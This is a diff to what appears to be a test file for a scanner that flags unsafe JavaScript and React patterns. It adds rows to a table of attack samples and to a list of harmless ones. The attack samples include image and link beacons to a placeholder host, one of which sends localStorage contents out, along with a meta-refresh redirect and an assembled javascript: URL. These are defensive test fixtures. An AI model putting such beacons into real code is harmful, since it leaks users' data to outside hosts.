@@ -87,6 +87,12 @@ const ATTACKS = String.raw`
   the Function constructor through a prototype | const F = [].constructor.constructor; F("return 1")()
   storage sent as an image's address | new Image().src = "https://$host/p?t=" + localStorage.getItem("s")
   a javascript: URL put together | return <a href={"java" + "script:alert(1)"}>x</a>
+  React's internals from an event | const go = (e) => { let f = e._targetInst; while (f.return) f = f.return; return f.stateNode.containerInfo }
+  a protocol-relative address completed | const img = <img src={"//$host/p?d=" + Math.random()} />
+  a start a browser reads as // | const img = <img src={"/\\$host/p?d=" + Math.random()} />
+  a meta refresh in a spread | const m = <meta {...{ httpEquiv: "refresh", content: "0;url=https://$host/" }} />
+  a stylesheet in createElement's props | const l = React.createElement("link", { rel: "stylesheet", href: "https://$host/a.css" })
+  image candidates completed | const l = <link rel="preload" as="image" href="/a.png" imageSrcSet={"https://$host/p?d=" + Math.random() + " 1x"} />
 `
 const rows = (table: string): [string, string][] =>
   table
@@ -158,6 +164,9 @@ const INERT = [
   'const copy = () => navigator.clipboard.writeText("npm i acme")',
   'const [state, dispatch] = useReducer((s, a) => ({ ...s, ...a }), { page: 1 })',
   'const frozen = Object.freeze({ a: 1 }); const merged = Object.assign({}, frozen, { b: 2 })',
+  'const onKey = (e) => { if (e.key === "Enter") { e.preventDefault(); console.log(e.target.value) } }',
+  'const links = [{ href: "/a", label: "A" }]; const nav = links.map((l) => <a key={l.href} href={l.href}>{l.label}</a>)',
+  'const hero = <link rel="preload" as="image" href="/hero.png" imageSrcSet="/hero.png 1x, /hero@2x.png 2x" />',
 ]
 const INERT_STYLES = [
   'a { background: url(/images/bg.png) } /* url(https://evil.example/x) */',
